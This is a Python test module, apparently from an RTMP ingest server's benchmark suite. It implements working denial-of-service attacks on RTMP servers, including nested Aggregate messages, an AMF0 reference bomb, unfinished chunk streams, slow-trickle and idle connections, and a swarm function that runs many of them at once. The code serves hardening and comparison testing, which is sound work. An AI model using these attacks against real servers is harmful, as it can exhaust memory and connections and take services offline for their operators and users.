"""Hostile RTMP peers: what anyone who can reach the port can send before it has a stream key.

Each attack is one connection doing one nasty thing as hard as the server lets it, and returns
how it ended: bytes sent, whether (and how soon) the server closed it. They are written against
the protocol, not against afterlive, so `bench/hostile.py` runs the same attacks on nginx-rtmp.

    nested-aggregate   an Aggregate message nested thousands of levels deep, ~2 MB
    amf0-bomb          a 4 KB command whose values are references to one large object
    partial-streams    messages started on 61 chunk streams, never finished, sent as fast as
                       the server reads (16 MB messages; partial-streams-1mb: 1 MB ones on 29)
    trickle            a handshake, then a byte now and then, never a publish
    idle               a TCP connection that sends nothing (held for `hold_s`)
    unknown-key        a full connect and publish with a key nobody has
    garbage            random bytes instead of a handshake
"""

from __future__ import annotations

import asyncio
import functools
import os
import random
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from ingest import amf0
from ingest.rtmp_chunks import (
    AGGREGATE,
    COMMAND_AMF0,
    SET_CHUNK_SIZE,
    VIDEO,
    Message,
    encode_message,
)

HANDSHAKE = 1536


@dataclass(kw_only=True)
class Outcome:
    attack: str
    sent: int = 0  # bytes the attacker got into the socket
    closed_by_server: bool = False
    seconds: float = 0.0  # from connect until the server closed it (or the attack gave up)
    error: str = ""


async def _open(host: str, port: int, timeout_s: float = 5.0):
    return await asyncio.wait_for(asyncio.open_connection(host, port), timeout_s)


async def _handshake(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"\x03" + bytes(HANDSHAKE))
    await writer.drain()
    await asyncio.wait_for(reader.readexactly(1 + 2 * HANDSHAKE), 10)
    writer.write(bytes(HANDSHAKE))
    await writer.drain()


async def _closed(reader: asyncio.StreamReader, within_s: float) -> bool:
    """True when the server closes the connection within `within_s` (what it sends is read and
    dropped, so its replies never block it)."""
    loop = asyncio.get_running_loop()
    end = loop.time() + within_s
    try:
        while (left := end - loop.time()) > 0:
            if not await asyncio.wait_for(reader.read(1 << 16), left):
                return True
    except TimeoutError:
        return False
    except (ConnectionError, OSError):
        return True
    return False


async def _write_all(writer: asyncio.StreamWriter, data: bytes, out: Outcome, piece: int) -> None:
    for start in range(0, len(data), piece):
        writer.write(data[start : start + piece])
        await writer.drain()
        out.sent += min(piece, len(data) - start)


def nested_aggregate(levels: int = 3000, inner_bytes: int = 2 << 20) -> bytes:
    """An Aggregate message whose one tag is an Aggregate whose one tag is... `levels` deep,
    around a video tag of `inner_bytes`. Built from the inside out as headers and trailers,
    joined once (nesting by concatenation would copy the body `levels` times)."""
    heads: list[bytes] = []
    tails: list[bytes] = []
    size = 2 + inner_bytes
    for type_id in [VIDEO] + [AGGREGATE] * levels:  # FLV tag: header, body, previous size
        heads.append(bytes([type_id]) + size.to_bytes(3, "big") + bytes(7))
        tails.append(struct.pack(">I", 11 + size))
        size += 15
    return b"".join([*reversed(heads), b"\x17\x01", bytes(inner_bytes), *tails])


def amf0_bomb(references: int = 300) -> bytes:
    """A command message body: a strict array of one object holding a long string, then
    `references` AMF0 references to that object (3 bytes each), where the command name
    should be. Decoded, it is megabytes of values; shown naively, megabytes of log."""
    obj = amf0.encode({"payload": "x" * 3000})
    refs = b"\x07\x00\x01" * references  # reference to object 1 (the array is 0)
    return b"\x0a" + struct.pack(">I", 1 + references) + obj + refs + amf0.encode(1.0)


async def attack(name: str, host: str, port: int, *, hold_s: float = 20.0) -> Outcome:
    """Run one attack on one connection; never raises."""
    out = Outcome(attack=name)
    t0 = time.monotonic()
    try:
        reader, writer = await _open(host, port)
    except (OSError, TimeoutError) as exc:
        out.error = f"connect: {exc}"
        return out
    try:
        await ATTACKS[name](reader, writer, out, hold_s)
    except (ConnectionError, OSError, asyncio.IncompleteReadError) as exc:
        out.closed_by_server = True
        out.error = type(exc).__name__
    except TimeoutError:
        out.error = "timeout"
    finally:
        out.seconds = time.monotonic() - t0
        writer.transport.abort()
    return out


async def _nested(reader, writer, out: Outcome, hold_s: float) -> None:
    await _handshake(reader, writer)
    body = nested_aggregate()
    # The largest chunk size there is: the whole message is one chunk, as cheap as possible to
    # send and, for a server that buffers it, as much to hold.
    wire = encode_message(Message(SET_CHUNK_SIZE, 0, 0, struct.pack(">I", 1 << 24), 2), 128)
    wire += encode_message(Message(AGGREGATE, 0, 0, body, 4), 1 << 24)
    await _write_all(writer, wire, out, 1 << 16)
    out.closed_by_server = await _closed(reader, hold_s)


async def _bomb(reader, writer, out: Outcome, hold_s: float) -> None:
    await _handshake(reader, writer)
    wire = b"".join(
        encode_message(Message(COMMAND_AMF0, 0, 0, amf0_bomb(), 3), 128) for _ in range(5)
    )
    await _write_all(writer, wire, out, 1 << 16)
    out.closed_by_server = await _closed(reader, hold_s)


async def _partial(
    reader, writer, out: Outcome, hold_s: float, size: int = (1 << 24) - 1, streams: int = 61
) -> None:
    """`streams` chunk streams each start a message of `size` (the protocol's largest by
    default);
    chunks of 64 KB go round the streams for as long as the server takes them, none finishing
    its message."""
    await _handshake(reader, writer)
    chunk = 1 << 16
    writer.write(encode_message(Message(SET_CHUNK_SIZE, 0, 0, struct.pack(">I", chunk), 2), 128))
    data = bytes(chunk)
    loop = asyncio.get_running_loop()
    end = loop.time() + hold_s
    watcher = asyncio.ensure_future(_closed(reader, hold_s))
    csids = range(3, 3 + streams)
    for csid in csids:  # type-0 headers: each stream starts a message
        header = bytes([csid]) + bytes(3) + size.to_bytes(3, "big") + bytes([VIDEO]) + bytes(4)
        writer.write(header + data)
        out.sent += len(header) + chunk
    sent_per_stream = 1
    while loop.time() < end and not watcher.done() and sent_per_stream * chunk < size - chunk:
        for csid in csids:
            if writer.transport.is_closing():
                break
            writer.write(bytes([0xC0 | csid]) + data)
            out.sent += 1 + chunk
            try:
                await asyncio.wait_for(writer.drain(), max(end - loop.time(), 0.01))
            except TimeoutError:
                break
            if watcher.done():
                break
        sent_per_stream += 1
    out.closed_by_server = await watcher


async def _trickle(reader, writer, out: Outcome, hold_s: float) -> None:
    await _handshake(reader, writer)
    loop = asyncio.get_running_loop()
    end = loop.time() + hold_s
    watcher = asyncio.ensure_future(_closed(reader, hold_s))
    # A connect command, a byte at a time: never complete enough to publish.
    wire = encode_message(
        Message(COMMAND_AMF0, 0, 0, amf0.encode("connect", 1.0, {"app": "live"}), 3), 128
    )
    i = 0
    while loop.time() < end and not watcher.done():
        writer.write(wire[i % len(wire) : i % len(wire) + 1])
        out.sent += 1
        i += 1
        await asyncio.wait([watcher], timeout=0.5)
    out.closed_by_server = await watcher


async def _idle(reader, writer, out: Outcome, hold_s: float) -> None:
    out.closed_by_server = await _closed(reader, hold_s)


async def _unknown_key(reader, writer, out: Outcome, hold_s: float) -> None:
    await _handshake(reader, writer)
    key = f"{os.urandom(8).hex()}-{os.urandom(16).hex()}"
    wire = b"".join(
        encode_message(Message(COMMAND_AMF0, stream, 0, amf0.encode(*values), 3), 128)
        for stream, values in (
            (0, ("connect", 1.0, {"app": "live"})),
            (0, ("FCPublish", 2.0, None, key)),
            (0, ("createStream", 3.0, None)),
            (1, ("publish", 4.0, None, key, "live")),
        )
    )
    await _write_all(writer, wire, out, 1 << 16)
    out.closed_by_server = await _closed(reader, hold_s)


async def _garbage(reader, writer, out: Outcome, hold_s: float) -> None:
    data = bytes([random.randrange(4, 256)]) + os.urandom(64 << 10)
    await _write_all(writer, data, out, 1 << 14)
    out.closed_by_server = await _closed(reader, hold_s)


ATTACKS: dict[str, Callable[..., Awaitable[None]]] = {
    "nested-aggregate": _nested,
    "amf0-bomb": _bomb,
    "partial-streams": _partial,
    # Under nginx-rtmp's defaults (max_message 1 MB, max_streams 32), which refuse the others.
    "partial-streams-1mb": functools.partial(_partial, size=1_000_000, streams=29),
    "trickle": _trickle,
    "idle": _idle,
    "unknown-key": _unknown_key,
    "garbage": _garbage,
}


async def swarm(
    name: str, host: str, port: int, connections: int, *, hold_s: float = 20.0
) -> list[Outcome]:
    """`connections` of one attack at once."""
    return list(
        await asyncio.gather(*(attack(name, host, port, hold_s=hold_s) for _ in range(connections)))
    )
